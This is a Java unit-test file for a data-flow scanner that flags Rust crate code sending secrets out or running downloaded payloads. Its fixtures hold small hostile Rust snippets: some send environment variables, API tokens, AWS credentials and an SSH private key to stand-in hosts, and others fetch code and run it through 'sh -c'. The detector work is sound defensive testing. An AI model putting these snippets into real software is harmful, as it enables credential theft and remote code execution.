package dev.warden.evaluate.scan;

import dev.warden.evaluate.lexer.RustLexer;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class DataFlowTest {

    private static List<String> chains(String source) {
        return DataFlow.chains(RustLexer.lex(source.getBytes(StandardCharsets.UTF_8))).stream()
                .map(c -> c.sink() + ": " + c.describe()).toList();
    }

    private static DataFlow.Unit unit(String file, String source, Map<Integer, String> credentialPaths) {
        return new DataFlow.Unit(file, RustLexer.lex(source.getBytes(StandardCharsets.UTF_8)), credentialPaths);
    }

    private static List<String> chains(DataFlow.Unit... units) {
        return DataFlow.chains(List.of(units)).stream().map(c -> c.source() + " " + c.sink() + ": " + c.describe())
                .toList();
    }

    @Test
    void aSecretIsFollowedThroughBindingsLoopsAndAccumulators() {
        assertThat(chains("""
                fn f() {
                    let mut loot = String::new();
                    for (k, v) in std::env::vars() {
                        loot.push_str(&v);
                    }
                    let _ = std::process::Command::new("curl").arg("-d").arg(&loot).status();
                }
                """)).containsExactly("PROCESS: every environment variable (3) → v (3) → loot (4) → arg (6)");
        assertThat(chains("""
                fn g() {
                    let token = std::env::var("GITHUB_TOKEN").unwrap();
                    ureq::post("https://x.example/").send_string(&token);
                }
                """)).containsExactly("NETWORK: env GITHUB_TOKEN (2) → token (2) → post (3)");
    }

    @Test
    void whatIsNotASecretOrNotCarriedIsNoChain() {
        assertThat(chains("""
                fn f() {
                    let home = std::env::var("HOME").unwrap();
                    let _ = (home.as_str(), 80).to_socket_addrs();
                }
                fn g() {
                    let _ = ("example.com", 80).to_socket_addrs();
                }
                """)).isEmpty();
        // A new function starts clean: the name means another value there.
        assertThat(chains("""
                fn f() { let key = std::env::var("API_KEY").unwrap(); drop(key); }
                fn g(key: &str) { let _ = (key, 53).to_socket_addrs(); }
                """)).isEmpty();
    }

    @Test
    void valuesAreFollowedThroughTheCratesOwnFunctions() {
        assertThat(chains("""
                fn collect() -> String { std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default() }
                fn ship(data: &str) { let _ = ureq::post("https://x.example/").send_string(data); }
                pub fn init() { let k = collect(); ship(&k); }
                """)).containsExactly("NETWORK: env AWS_SECRET_ACCESS_KEY (1) → collect() (3) → k (3) → ship(…) (3) "
                + "→ post (2)");
        // Two calls deep, and across files: the step in the other file names it.
        assertThat(chains(unit("src/lib.rs", """
                mod net;
                pub fn init() {
                    let all: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                    net::report(&all.join("&"));
                }
                """, Map.of()), unit("src/net.rs", """
                pub fn report(text: &str) { upload(text) }
                fn upload(body: &str) { let _ = ureq::post("https://x.example/").send_string(body); }
                """, Map.of()))).containsExactly("ENVIRONMENT NETWORK: every environment variable (3) → all (3) "
                + "→ report(…) (4) → upload(…) (src/net.rs:1) → post (src/net.rs:2)");
    }

    @Test
    void closuresAndStructFieldsCarryValues() {
        assertThat(chains("""
                pub fn run() {
                    let send = |body: &str| { let _ = ureq::post("https://x.example/").send_string(body); };
                    let token = std::env::var("NPM_TOKEN").unwrap();
                    send(&token);
                }
                """)).containsExactly("NETWORK: env NPM_TOKEN (3) → token (3) → send(…) (4) → post (2)");
        assertThat(chains("""
                struct Config { token: String }
                impl Config {
                    fn load() -> Config { Config { token: std::env::var("GITHUB_TOKEN").unwrap() } }
                    fn report(&self) {
                        let _ = std::process::Command::new("curl").arg("-d").arg(&self.token).status();
                    }
                }
                """)).containsExactly("PROCESS: env GITHUB_TOKEN (3) → .token (3) → .token (5) → arg (5)");
    }

    @Test
    void aCredentialFileReadIsASource() {
        assertThat(chains(unit("src/lib.rs", """
                pub fn sync() {
                    let home = std::env::var("HOME").unwrap();
                    let path = format!("{}/.aws/credentials", home);
                    let text = std::fs::read_to_string(&path).unwrap_or_default();
                    let _ = ureq::post("https://x.example/").send_string(&text);
                }
                """, Map.of(3, "{}/.aws/credentials")))).containsExactly("CREDENTIAL_FILE NETWORK: path "
                + "{}/.aws/credentials (3) → path (3) → read (4) → text (4) → post (5)");
        // Read through a handle: the buffer it fills holds the file.
        assertThat(chains(unit("src/lib.rs", """
                use std::io::Read;
                pub fn keys() {
                    let mut f = std::fs::File::open("/home/u/.ssh/id_rsa").unwrap();
                    let mut key = String::new();
                    f.read_to_string(&mut key).unwrap();
                    let _ = ("x.example", 53).to_socket_addrs();
                    let _ = std::net::TcpStream::connect("10.0.0.1:80").map(|mut s| s.write_all(key.as_bytes()));
                }
                """, Map.of(3, "/home/u/.ssh/id_rsa")))).containsExactly("CREDENTIAL_FILE NETWORK: file "
                + "/home/u/.ssh/id_rsa (3) → f (3) → key (5) → connect (7)");
    }

    @Test
    void aDownloadWrittenAndRunIsAnExecutionChain() {
        assertThat(chains("""
                fn fetch(url: &str) -> Vec<u8> { reqwest::blocking::get(url).unwrap().bytes().unwrap().to_vec() }
                pub fn update() {
                    let path = std::env::temp_dir().join("svc");
                    let data = fetch("http://1.2.3.4/p");
                    let mut f = std::fs::File::create(&path).unwrap();
                    f.write_all(&data).unwrap();
                    std::process::Command::new(&path).spawn().unwrap();
                }
                """)).containsExactly("EXECUTION: download reqwest (1) → fetch() (4) → data (4) → write path (6) "
                + "→ run (7)");
        // A literal path, made executable; and a download handed to a launcher.
        assertThat(chains("""
                pub fn a() {
                    let body = ureq::get("http://x.example/l").call().unwrap().into_string().unwrap();
                    std::fs::write("/tmp/l", &body).unwrap();
                    std::fs::set_permissions("/tmp/l", std::fs::Permissions::from_mode(0o755)).unwrap();
                }
                pub fn b(url: &str) {
                    let script = ureq::get(url).call().unwrap().into_string().unwrap();
                    std::process::Command::new("sh").arg("-c").arg(&script).spawn().unwrap();
                }
                """)).containsExactly(
                "EXECUTION: download ureq (2) → body (2) → write /tmp/l (3) → set_permissions (4)",
                "EXECUTION: download ureq (7) → script (7) → run (8)");
    }

    @Test
    void unpackingADownloadIsNotRunningIt() {
        // What build scripts do with a source tarball: write it, hand it to tar.
        assertThat(chains("""
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    let bytes = ureq::get("https://example.org/src.tar.gz").call().unwrap().into_reader();
                    let archive = format!("{out}/src.tar.gz");
                    std::fs::write(&archive, bytes).unwrap();
                    std::process::Command::new("tar").arg("xzf").arg(&archive).status().unwrap();
                }
                """)).isEmpty();
    }

    /** Crate code is written by whoever publishes it: no token soup, cut-off function or stray bracket may break it. */
    @net.jqwik.api.Property(tries = 3000)
    void anyInputIsFollowedWithoutFailing(@net.jqwik.api.ForAll("rustish") String source) {
        DataFlow.chains(List.of(unit("src/lib.rs", source, Map.of(1, ".ssh/id_rsa"))));
    }

    @net.jqwik.api.Provide
    net.jqwik.api.Arbitrary<String> rustish() {
        return net.jqwik.api.Arbitraries.of("fn", "f", "(", ")", "{", "}", "[", "]", ";", ",", ":", "::", ".", "=",
                        "let", "mut", "for", "in", "if", "return", "|", "&", "move", "env", "var", "vars", "\"TOKEN\"",
                        "reqwest", "get", "post", "body", "fs", "write", "File", "create", "open", "write_all",
                        "Command", "new", "arg", "set_permissions", "read_to_string", "WalkDir", "x", "self", "impl",
                        "S", "mod", "\"sh\"", "\"/tmp/x\"", "to_socket_addrs", "io", "copy", "struct", "<", ">", "->")
                .list().ofMaxSize(60).map(words -> String.join(" ", words));
    }
}
